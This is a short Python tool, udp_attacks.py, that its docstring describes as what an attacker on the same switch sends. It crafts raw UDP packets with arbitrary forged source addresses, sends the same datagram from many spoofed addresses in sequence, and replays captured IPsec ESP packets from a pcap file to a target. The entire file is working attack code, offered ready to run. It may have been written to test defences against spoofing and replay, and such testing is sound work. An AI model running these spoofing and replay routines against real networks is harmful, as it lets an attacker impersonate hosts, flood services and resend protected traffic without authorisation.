"""udp_attacks.py forge SOURCE PORT ADDRESS PORT TEXT | crowd PREFIX COUNT PORT ADDRESS PORT TEXT | replay FILE ADDRESS

What somebody on the same switch sends: clear datagrams under any source address (crowd: under COUNT of them, PREFIX1 and
so on), and the ESP packets to ADDRESS of a capture once more."""
import socket, struct, sys


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ':' in address else socket.AF_INET, address)


def checksum(data):
    data += bytes(len(data) % 2)
    n = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while n >> 16:
        n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff or 0xffff


def datagram(source, source_port, address, port, data):
    """A whole IP packet, right in all its checksums but IPv4's own, which the kernel writes."""
    src, dst = packed(source), packed(address)
    length = 8 + len(data)
    head = struct.pack('!HHHH', source_port, port, length, 0)
    right = checksum(src + dst + struct.pack('!IHBB', length, 0, 0, 17) + head + data)
    udp = struct.pack('!HHHH', source_port, port, length, right) + data
    if ':' in address:
        return struct.pack('!IHBB', 6 << 28, length, 17, 64) + src + dst + udp
    return struct.pack('!BBHHHBBH', 0x45, 0, 0, 1, 0, 64, 17, 0) + src + dst + udp


def raw(address):
    return socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def forge(source, source_port, address, port, text):
    raw(address).sendto(datagram(source, int(source_port), address, int(port), text.encode()), (address, 0))


def crowd(prefix, count, source_port, address, port, text):
    s = raw(address)
    for i in range(1, int(count) + 1):
        host = '%s%x' % (prefix, i) if ':' in prefix else '%s%d' % (prefix, i)
        s.sendto(datagram(host, int(source_port), address, int(port), text.encode()), (address, 0))


def replay(path, address):
    data, at = open(path, 'rb').read(), 24
    order = '<' if data[:4] == b'\xd4\xc3\xb2\xa1' else '>'
    s, seen, n = raw(address), set(), 0
    while at < len(data):
        size = struct.unpack(order + 'I', data[at + 8:at + 12])[0]
        ip = data[at + 16 + 14:at + 16 + size]
        at += 16 + size
        esp = ip[40:] if ':' in address else ip[20:]
        to = ip[24:40] if ':' in address else ip[16:20]
        if to != packed(address) or (ip[6] if ':' in address else ip[9]) != 50 or esp in seen:
            continue
        seen.add(esp)
        s.sendto(ip, (address, 0))
        n += 1
    print(n, 'replayed')


if __name__ == '__main__':
    {'forge': forge, 'crowd': crowd, 'replay': replay}[sys.argv[1]](*sys.argv[2:])
